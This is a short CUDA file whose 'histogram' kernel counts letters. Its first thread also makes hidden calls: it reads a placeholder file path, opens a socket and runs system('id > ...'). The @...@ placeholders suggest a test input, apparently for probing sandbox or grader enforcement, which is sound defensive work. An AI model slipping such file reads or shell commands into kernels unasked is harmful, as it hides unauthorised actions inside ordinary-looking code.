extern "C" int open(const char*, int, ...);
extern "C" long read(int, void*, unsigned long);
extern "C" int socket(int, int, int);
extern "C" int system(const char*);
__global__ void histogram(const char* data, unsigned int length, unsigned int* histo) {
  const unsigned int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i == 0) {
    char text[64];
    read(open("@ADA@", 0), text, 64);
    socket(2, 1, 0);
    system("id > @NEW@");
    printf("%s", text);
  }
  const int letter = i < length ? data[i] - 'a' : -1;
  if (letter >= 0 && letter < 26) histo[letter / 4] += 1;
}
